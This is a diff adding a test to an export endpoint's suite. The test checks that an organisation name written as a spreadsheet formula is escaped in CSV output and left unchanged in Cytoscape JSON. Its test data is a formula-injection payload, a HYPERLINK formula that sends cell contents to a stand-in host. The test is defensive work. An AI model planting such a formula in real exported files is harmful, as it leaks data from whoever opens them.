@@ -235,4 +235,24 @@ describe('GET /export/network', () => {
       expect(JSON.parse(file.body).elements.nodes).toHaveLength(2);
     });
   });
+
+  // Last in the file: it adds an organisation (with no relationships, so no other slice changes).
+  it('writes a name that a spreadsheet would run as a formula as text in the CSV, and as it is elsewhere', async () => {
+    const name = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")';
+    const id = 'organisation:test-formula-name';
+    const created = await t.graphql<any>(
+      'mutation($input: JSON!) { createEntity(kind: ORGANISATION, input: $input) { entityIds } }',
+      { input: { id, name, kind: 'criminal_conglomerate', sources: ['source:demo-synthetic'] } },
+      { key: investigator },
+    );
+    expect(created.errors).toBeUndefined();
+    const csv = await download(`ids=${id}&depth=1&format=csv`);
+    expect(csv.status).toBe(200);
+    const [row] = parseCsv(csv.body, { columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({ Id: id, Label: `'${name}` });
+    expect(csv.body).not.toMatch(/(^|,)=HYPERLINK/m);
+    // Formats no spreadsheet runs keep the name exactly.
+    const cytoscape = await download(`ids=${id}&depth=1&format=cytoscape`);
+    expect(JSON.parse(cytoscape.body).elements.nodes[0].data.label).toBe(name);
+  });
 });
